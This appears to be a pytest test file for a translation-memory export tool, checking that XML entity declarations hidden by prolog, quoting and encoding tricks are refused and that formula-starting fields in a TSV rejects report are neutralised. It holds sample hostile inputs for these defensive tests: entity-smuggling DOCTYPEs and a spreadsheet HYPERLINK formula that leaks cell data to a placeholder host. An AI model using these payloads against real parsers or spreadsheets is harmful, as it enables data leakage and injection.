"""Issue "Trust": one safe path for every XML input, whatever its prolog or encoding, and a
rejects report a spreadsheet cannot run.

- The prolog scan follows quoted literals, comments and PIs, so a ``<`` in
  ``SYSTEM "<a"`` no longer ends the prolog before the entity declarations are seen; and
  translate-toolkit (XLIFF) parses only bytes our safe parser has checked.
- UTF-32 (with or without BOM, both byte orders), and encodings such as UTF-7 that spell
  ``<!ENTITY`` in other bytes, are read as the parser reads them.
- A rejects field that would start a formula is written behind a ``'`` and read back exactly.
"""

from __future__ import annotations

import codecs
import gzip
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

import tmx_export.formats.tmx as tmx
import tmx_export.formats.ttkstore as ttkstore
import tmx_export.formats.xml as xml
from tmx_export.cli import main
from tmx_export.errors import InputError
from tmx_export.formats.rejects import format_reject, read_rejects, write_rejects
from tmx_export.formats.text import neutralise_cell as neutralise_field
from tmx_export.formats.text import restore_cell as restore_field
from tmx_export.formats.tmx import read_tmx
from tmx_export.formats.tsv import escape_field, unescape_field
from tmx_export.formats.ttkstore import read_ttk
from tmx_export.formats.xml import SAFE_PARSER_OPTIONS, check_prolog, has_entity_declarations
from tmx_export.inputs import detect_format
from tmx_export.model import Reject
from tmx_export.pipeline import build

SECRET = "SMUGGLED-ENTITY-TEXT"
# The DOCTYPE of the issue: the "<a" in the system literal looked like the root element.
TRICK = f'<!DOCTYPE {{root}} SYSTEM "<a" [<!ENTITY x "{SECRET}">]>'

XLIFF = """<?xml version="1.0" encoding="UTF-8"?>
{doctype}
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
  <file original="r.txt" source-language="en" target-language="fr" datatype="plaintext">
    <body>
      <trans-unit id="1">
        <source>{source}</source>
        <target state="translated">La chaîne de valeur compte.</target>
      </trans-unit>
    </body>
  </file>
</xliff>
"""

TMX = """<?xml version="1.0" encoding="UTF-8"?>
{doctype}
<tmx version="1.4">
  <header srclang="en" segtype="sentence" datatype="plaintext" o-tmf="x" adminlang="en"
          creationtool="t" creationtoolversion="1"/>
  <body>
    <tu><tuv xml:lang="en"><seg>{source}</seg></tuv>
        <tuv xml:lang="fr"><seg>La chaîne de valeur compte.</seg></tuv></tu>
  </body>
</tmx>
"""

DOCUMENTS = {"xliff": XLIFF, "tmx": TMX}
CLEAN_SOURCE = "The value chain matters."


def document(kind: str, doctype: str = "", source: str = CLEAN_SOURCE) -> str:
    return DOCUMENTS[kind].format(doctype=doctype, source=source)


def hostile(kind: str) -> str:
    return document(kind, TRICK.format(root=kind), "Hello &x;")


def libxml2_declares_entities(data: bytes) -> bool:
    """What the parser itself sees: the test documents must really carry the entity."""
    root = etree.fromstring(data, etree.XMLParser(**SAFE_PARSER_OPTIONS))
    return has_entity_declarations(root)


def files_under(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes()
            for p in sorted(directory.rglob("*")) if p.is_file()}


# --- 1. the XLIFF entity trick -------------------------------------------------------------

@pytest.mark.parametrize("kind", ["xliff", "tmx"])
def test_quoted_fake_root_refused_by_build(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"trick.{'xlf' if kind == 'xliff' else 'tmx'}"
    path.write_text(hostile(kind), encoding="utf-8")
    assert libxml2_declares_entities(path.read_bytes())
    out = tmp_path / "out.tmx"
    with pytest.raises(InputError) as err:
        build([path], out, source_lang="en", target_lang="fr")
    assert str(err.value).startswith(f"{path}:2: refused: the DOCTYPE declares entities")
    assert SECRET not in str(err.value)
    assert not out.exists()


@pytest.mark.parametrize("kind", ["xliff", "tmx"])
def test_quoted_fake_root_refused_by_the_cli(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"trick.{'xlf' if kind == 'xliff' else 'tmx'}"
    path.write_text(hostile(kind), encoding="utf-8")
    before = files_under(tmp_path)
    result = CliRunner().invoke(main, ["build", str(path), "-o", str(tmp_path / "out.tmx"),
                                       "--rejects", str(tmp_path / "rejects.tsv"),
                                       "--source-lang", "en", "--target-lang", "fr"])
    assert result.exit_code == 1
    assert result.stderr.startswith(f"tmx-export: error: {path}:2: refused:")
    assert len(result.stderr.splitlines()) == 1
    assert SECRET not in result.output
    assert files_under(tmp_path) == before  # no TMX, no report, no temporary file left


# Each prolog is well-formed and declares an entity libxml2 sees; before the scan followed
# the grammar, something in a literal, comment or PI hid it (or, below, an encoding did).
PROLOG_TRICKS = {
    "system-double-quoted": '<!DOCTYPE tmx SYSTEM "<a" [<!ENTITY x "v">]>',
    "system-single-quoted": "<!DOCTYPE tmx SYSTEM '<a' [<!ENTITY x \"v\">]>",
    "public-literal": '<!DOCTYPE tmx PUBLIC "-//A//B" "<a>" [<!ENTITY x "v">]>',
    "comment-opener-in-literal": '<!DOCTYPE tmx SYSTEM "<!--" [<!ENTITY x "v"><!-- -->]>',
    "pi-opener-in-literal": '<!DOCTYPE tmx SYSTEM "<?" [<!ENTITY x "v"><?p ?>]>',
    "doctype-end-in-literal": '<!DOCTYPE tmx SYSTEM "]><a>" [<!ENTITY x "v">]>',
    "doctype-end-in-subset-comment": '<!DOCTYPE tmx [<!-- ]> <a> --><!ENTITY x "v">]>',
    "doctype-end-in-subset-pi": '<!DOCTYPE tmx [<?p ]> <a> ?><!ENTITY x "v">]>',
    "quote-in-subset-comment":
        "<!DOCTYPE tmx [<!-- ' --><!ATTLIST a b CDATA \"']>\"><!ENTITY x \"v\">]>",
}


@pytest.mark.parametrize("doctype", PROLOG_TRICKS.values(), ids=PROLOG_TRICKS.keys())
def test_prolog_scan_follows_literals_comments_and_pis(doctype: str) -> None:
    data = document("tmx", doctype).encode()
    assert libxml2_declares_entities(data)
    with pytest.raises(InputError, match=r"^t\.tmx:2: refused: the DOCTYPE declares entities"):
        check_prolog(data, "t.tmx")


def test_prolog_scan_still_accepts_clean_prologs() -> None:
    for doctype in ('<!DOCTYPE tmx SYSTEM "<a">', '<!DOCTYPE tmx SYSTEM "tmx14.dtd">',
                    "<!-- <!ENTITY x 'in a comment'> --><?pi <!ENTITY ?>", ""):
        check_prolog(document("tmx", doctype).encode(), "ok.tmx")
    # entity-like text in the body is content, not the prolog
    check_prolog(document("tmx", "", "&lt;!ENTITY x").encode(), "ok.tmx")


@pytest.mark.parametrize(
    ("encoding", "hidden"),
    [
        ("UTF-7", b'+ADwAIQ-ENTITY x "v">'),  # "<!" in UTF-7's base64
        ("ISO-2022-JP", b'<\x1b(B!ENTITY x "v">'),  # an escape sequence between "<" and "!"
        ("HZ-GB-2312", b'<~\n!ENTITY x "v">'),  # HZ's line continuation
    ],
)
def test_entities_spelled_in_a_declared_encoding_are_refused(encoding: str,
                                                              hidden: bytes) -> None:
    data = (f'<?xml version="1.0" encoding="{encoding}"?>\n<!DOCTYPE tmx ['.encode()
            + hidden + b']>\n<tmx version="1.4"><header srclang="en"/><body/></tmx>\n')
    assert libxml2_declares_entities(data)
    with pytest.raises(InputError, match="refused: the DOCTYPE declares entities"):
        check_prolog(data, "t.tmx")


@pytest.mark.parametrize("kind", ["xliff", "tmx"])
def test_second_line_of_defence_without_the_prolog_scan(
    tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Were the prolog scan fooled again, the full safe parse still refuses the file, and
    # translate-toolkit (which would expand &x;) never parses it.
    def fooled(head: bytes, name: str, limit: int = 0) -> None:
        return None

    for module in (xml, ttkstore, tmx):  # every reference to it, wherever imported
        monkeypatch.setattr(module, "check_prolog", fooled, raising=False)
    path = tmp_path / f"trick.{'xlf' if kind == 'xliff' else 'tmx'}"
    path.write_text(hostile(kind), encoding="utf-8")
    reader = read_ttk if kind == "xliff" else read_tmx
    with pytest.raises(InputError, match="refused: the DOCTYPE declares entities") as err:
        reader(path, source_lang="en", target_lang="fr")
    assert err.value.file == str(path)
    assert SECRET not in str(err.value)


def test_translate_toolkit_parses_the_checked_bytes_not_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # What translate-toolkit parses is what read_checked returned: the file is not read
    # again (it could have changed since it was checked).
    path = tmp_path / "a.xlf"
    path.write_text(document("xliff"), encoding="utf-8")
    checked = document("xliff", source="Checked bytes.").encode()
    monkeypatch.setattr(ttkstore, "read_checked", lambda p, repairs=None: checked)
    pairs = read_ttk(path, source_lang="en", target_lang="fr").pairs
    assert [p.source for p in pairs] == ["Checked bytes."]


def test_read_checked_returns_the_document(tmp_path: Path) -> None:
    path = tmp_path / "a.xlf"
    path.write_text(document("xliff"), encoding="utf-8")
    assert xml.read_checked(path) == path.read_bytes()
    path.write_text("<xliff><file>", encoding="utf-8")
    with pytest.raises(InputError, match=r"a\.xlf:1: not well-formed XML"):
        xml.read_checked(path)


# --- 2. UTF-32 -----------------------------------------------------------------------------

UTF32 = {
    "le-bom": (codecs.BOM_UTF32_LE, "utf-32-le"),
    "be-bom": (codecs.BOM_UTF32_BE, "utf-32-be"),
    "le": (b"", "utf-32-le"),
    "be": (b"", "utf-32-be"),
}


def utf32(text: str, variant: str) -> bytes:
    bom, codec = UTF32[variant]
    # The declaration names no encoding: a parser goes by the first bytes, as for UTF-16.
    return bom + text.replace(' encoding="UTF-8"', "").encode(codec)


@pytest.mark.parametrize("variant", UTF32)
@pytest.mark.parametrize("kind", ["xliff", "tmx"])
def test_utf32_hiding_entities_is_refused(tmp_path: Path, kind: str, variant: str) -> None:
    data = utf32(hostile(kind), variant)
    assert libxml2_declares_entities(data)
    # refused by the prolog scan itself (only it knows the line)
    with pytest.raises(InputError, match=r"^t:2: refused: the DOCTYPE declares entities"):
        check_prolog(data, "t")
    path = tmp_path / f"trick.{'xlf' if kind == 'xliff' else 'tmx'}"
    path.write_bytes(data)
    out = tmp_path / "out.tmx"
    with pytest.raises(InputError, match=f"^{re.escape(str(path))}:2: refused"):
        build([path], out, source_lang="en", target_lang="fr")
    assert not out.exists()


@pytest.mark.parametrize("variant", UTF32)
@pytest.mark.parametrize("kind", ["xliff", "tmx"])
def test_clean_utf32_is_recognised_and_read(tmp_path: Path, kind: str, variant: str) -> None:
    # Named .txt, so only the content can tell what the file is.
    path = tmp_path / "memory.txt"
    path.write_bytes(utf32(document(kind), variant))
    assert detect_format(path) == kind
    out = tmp_path / "out.tmx"
    summary = build([path], out, source_lang="en", target_lang="fr", segment="paragraph")
    assert dict(summary.formats) == {kind: 1}
    pairs = read_tmx(out, source_lang="en", target_lang="fr").pairs
    assert [(p.source, p.target) for p in pairs] == [(CLEAN_SOURCE,
                                                       "La chaîne de valeur compte.")]


def test_utf32_with_bom_is_read_compressed_too(tmp_path: Path) -> None:
    # libxml2's push parser (iterparse, which streams TMX) stops at a UTF-32 BOM by itself:
    # open_xml hands it UTF-8.
    path = tmp_path / "memory.tmx.gz"
    path.write_bytes(gzip.compress(utf32(document("tmx"), "be-bom")))
    pairs = read_tmx(path, source_lang="en", target_lang="fr").pairs
    assert [p.target for p in pairs] == ["La chaîne de valeur compte."]
    assert xml.read_head(path).startswith(codecs.BOM_UTF8 + b'<?xml version="1.0"?>')


@pytest.mark.parametrize("kind", ["xliff", "tmx"])
def test_broken_utf32_is_one_clear_error(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"broken.{'xlf' if kind == 'xliff' else 'tmx'}"
    path.write_bytes(utf32(document(kind), "le-bom") + b"\x00\x00\x11\x00")  # > U+10FFFF
    result = CliRunner().invoke(main, ["build", str(path), "-o", str(tmp_path / "out.tmx"),
                                       "--source-lang", "en", "--target-lang", "fr"])
    assert result.exit_code == 1
    assert result.stderr == (f"tmx-export: error: {path}: not valid UTF-32: "
                             "code point not in range(0x110000)\n")
    assert not (tmp_path / "out.tmx").exists()


def test_decode_head_reads_utf32_and_still_utf16_and_utf8() -> None:
    text = '<?xml version="1.0"?><tmx>é</tmx>'
    for data in (utf32(text, "le-bom"), utf32(text, "be"), text.encode("utf-16"),
                 text.encode("utf-16-be"), codecs.BOM_UTF8 + text.encode()):
        assert xml.decode_head(data).replace("Ã©", "é") == text
    # a head cut inside a character still decodes
    assert xml.decode_head(utf32(text, "le")[:-1]).startswith('<?xml version="1.0"?><tmx>')


# --- 3. formulas in the rejects report -----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    '"=1+1"',
    "   =1",
    "\u00a0=1",
]


def cells(row: str) -> list[str]:
    return row.rstrip("\n").split("\t")


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula (or a quoted one)."""
    return re.match(r"\s*[=+\-@\"\x00]", cell) is not None


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_and_file_are_neutralised_and_read_back(tmp_path: Path, text: str) -> None:
    reject = Reject(file=text + ".txt", line=3, reason="untranslated", text=text)
    row = cells(format_reject(reject))
    assert len(row) == 4
    assert not any(runs_as_formula(cell) for cell in row)
    assert row[0] == "'" + text + ".txt" and row[3] == "'" + text
    assert restore_field(row[3]) == text
    path = tmp_path / "rejects.tsv"
    write_rejects([reject], path)
    assert read_rejects(path) == [reject]


def test_tabs_and_line_breaks_cannot_start_a_cell() -> None:
    # escaped before anything else: a cell starts with a backslash, and a tab inside a text
    # never makes a new cell that starts with "="
    row = cells(format_reject(Reject("f", 1, "r", "\t=1\n=2\r=3\tx\t=HYPERLINK(1)")))
    assert row == ["f", "1", "r", "\\t=1\\n=2\\r=3\\tx\\t=HYPERLINK(1)"]


def test_nul_before_a_formula_is_neutralised() -> None:
    assert neutralise_field("\x00=1") == "'\x00=1"
    assert restore_field("'\x00=1") == "\x00=1"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("'tis", "'tis"),  # a quote of its own, no formula: left alone
        ("it's", "it's"),
        ("'", "'"),
        ("'=x", "''=x"),  # a quote of its own before a formula: one more quote
        ("''-x", "'''-x"),
        ("' @x", "'' @x"),
        ("-", "'-"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_quotes_of_their_own_round_trip(tmp_path: Path, text: str, written: str) -> None:
    reject = Reject("f", 1, "r", text)
    assert cells(format_reject(reject))[3] == written
    path = tmp_path / "rejects.tsv"
    write_rejects([reject], path)
    assert read_rejects(path) == [reject]


def test_reports_written_before_keep_their_quotes(tmp_path: Path) -> None:
    # A field starting with "'" but no formula after it is taken as it stands.
    path = tmp_path / "old.tsv"
    path.write_text("file\tline\treason\ttext\n'a.txt\t2\tr\t'tis\n", encoding="utf-8")
    assert read_rejects(path) == [Reject("'a.txt", 2, "r", "'tis")]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_neutralised_fields_never_run_and_round_trip(text: str) -> None:
    cell = neutralise_field(escape_field(text))
    assert "\t" not in cell and "\n" not in cell and "\r" not in cell
    assert not runs_as_formula(cell)
    assert unescape_field(restore_field(cell)) == text


def test_build_report_neutralises_a_hostile_file_name_and_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The file field holds the name as given: a relative name is the user's to choose, or
    # an archive's.
    monkeypatch.chdir(tmp_path)
    name = "=HYPERLINK(1).xlf"
    formula = '=HYPERLINK("http://example.invalid","x")'
    Path(name).write_text(XLIFF.format(doctype="", source=formula).replace(
        '<target state="translated">La chaîne de valeur compte.</target>', ""),
        encoding="utf-8")
    Path("ok.xlf").write_text(document("xliff"), encoding="utf-8")
    result = CliRunner().invoke(main, ["build", name, "ok.xlf", "-o", "out.tmx", "--rejects",
                                       "rejects.tsv", "--source-lang", "en",
                                       "--target-lang", "fr"])
    assert result.exit_code == 0, result.output
    rows = [cells(line) for line in Path("rejects.tsv").read_text(encoding="utf-8")
            .splitlines()[1:]]
    assert rows == [["'" + name, "6", "untranslated", "'" + formula]]
    assert read_rejects("rejects.tsv") == [Reject(name, 6, "untranslated", formula)]
